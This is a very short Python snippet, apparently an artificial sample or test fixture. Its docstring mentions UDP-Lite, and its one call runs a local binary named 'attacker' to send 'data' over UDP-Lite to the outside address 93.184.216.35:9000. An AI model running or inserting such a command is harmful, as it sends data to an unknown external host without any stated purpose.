"""UDP-Lite is not UDP, and takes the same calls."""
import subprocess

subprocess.run(["./attacker", "send", "lite", "93.184.216.35:9000", "data"])
